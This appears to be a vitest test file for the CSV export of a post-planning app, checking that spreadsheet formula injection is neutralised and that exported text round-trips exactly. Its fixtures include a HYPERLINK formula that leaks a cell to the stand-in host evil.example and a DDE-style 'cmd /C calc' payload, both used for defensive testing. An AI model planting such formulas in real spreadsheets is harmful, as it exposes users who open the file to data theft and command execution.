import fc from "fast-check";
import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { neutraliseFormula, restoreFormula } from "~/domain/csv-cells";
import { defaultCategories } from "~/domain/mix-rules-settings";
import { parsePlanCsv, writePlanCsv } from "~/domain/plan-csv";

const row = (text: string, title = "Title") => ({
  date: "2026-12-03",
  time: "09:30",
  timezone: "Europe/Warsaw",
  channel: "x",
  category: "news",
  title,
  text,
  link: "",
  media: "",
  id: "",
  series: "",
});

const readBack = (csv: string) => parsePlanCsv(csv, { defaultTimeZone: "Europe/Warsaw", categories: defaultCategories });

describe("CSV formula injection", () => {
  it("puts a quote before every cell a spreadsheet would run as a formula", () => {
    const csv = writePlanCsv([row('=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1 campaign"), row("@SUM(1+1)*cmd|' /C calc'!A0", "-2+3"), row("\tindented", "\rreturned")]);
    const cells = Papa.parse<string[]>(csv.replace(/^\uFEFF/, "")).data.slice(1).flat();
    for (const cell of cells) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")"`);
  });

  it("reads back exactly the text that was exported", () => {
    for (const text of ['=HYPERLINK("http://evil.example/?leak="&A1)', "+48 600 000 000", "-50% today", "@rytm hello", "'tis the season", "'=already quoted", "''=twice", "'", "plain text"]) {
      const { rows, problems } = readBack(writePlanCsv([row(text, text)]));
      expect(problems).toEqual([]);
      expect(rows[0]).toMatchObject({ text, title: text });
    }
  });

  it("round-trips any text a post can hold", () => {
    const text = fc
      .string({ unit: fc.constantFrom("=", "+", "-", "@", "'", "\t", "a", "ą", " ", '"', ",", ";", "\n", "😀"), minLength: 1, maxLength: 12 })
      .map((s) => s.trim())
      .filter((s) => s.length > 0);
    fc.assert(
      fc.property(text, (t) => {
        const { rows, problems } = readBack(writePlanCsv([row(t)]));
        expect(problems).toEqual([]);
        expect(rows[0]!.text).toBe(t);
      }),
      { numRuns: 500 },
    );
  });

  it("takes exactly one guard quote off, and only before a formula", () => {
    fc.assert(
      fc.property(fc.string(), (cell) => {
        expect(restoreFormula(neutraliseFormula(cell))).toBe(cell);
      }),
    );
    expect(restoreFormula("'hello")).toBe("'hello");
    expect(restoreFormula("'=1+1")).toBe("=1+1");
  });
});
